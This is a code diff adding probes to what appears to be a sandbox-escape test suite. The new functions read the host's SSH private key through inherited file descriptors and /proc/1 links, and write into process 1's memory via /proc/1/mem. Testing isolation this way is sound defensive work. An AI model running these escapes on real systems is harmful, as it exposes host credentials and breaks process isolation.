@@ -51,6 +51,47 @@ def inherited_descriptors(facts):
     raise Refused("none with anything in it")
 
 
+@probe("processes", "reaches the host's files by a directory that its launcher left open")
+def inherited_directory(facts):
+    for name in os.listdir("/proc/self/fd"):
+        with contextlib.suppress(OSError, Refused):
+            if int(name) > 2:
+                path = facts["home"].lstrip("/") + "/.ssh/id_ed25519"
+                return marked(os.read(os.open(path, os.O_RDONLY, dir_fd=int(name)), 1000))
+    raise Refused("none is left")
+
+
+def _not_itself(pid: str) -> None:
+    if b"index.py" in read(f"/proc/{pid}/cmdline"):
+        raise Refused("that is the server itself")
+
+
+@probe("processes", "reaches the host's files by the root, directory or open files of the sandbox's first process")
+def first_process_links(facts):
+    _not_itself("1")
+    path = facts["home"] + "/.ssh/id_ed25519"
+    places = [f"/proc/1/{link}" for link in ("root", "cwd", "cwd/../../../../../..")]
+    with contextlib.suppress(OSError):
+        places += [f"/proc/1/fd/{name}" for name in os.listdir("/proc/1/fd")]
+    for place in places:
+        with contextlib.suppress(OSError, Refused):
+            return marked(read(place + path))
+    raise Refused("none shows the host")
+
+
+@probe("processes", "writes into the memory of the sandbox's first process, which no filter holds")
+def first_process_memory(facts):
+    _not_itself("1")
+    with open("/proc/1/maps") as file:
+        address = int(file.readline().partition("-")[0], 16)
+    with open("/proc/1/mem", "r+b", buffering=0) as file:
+        file.seek(address)
+        byte = file.read(1)
+        file.seek(address)
+        file.write(byte)
+    return "a byte was written"
+
+
 @probe("processes", "traces another process (ptrace)")
 def ptrace(facts):
     call("ptrace", 16, facts["victim"], 0, 0)
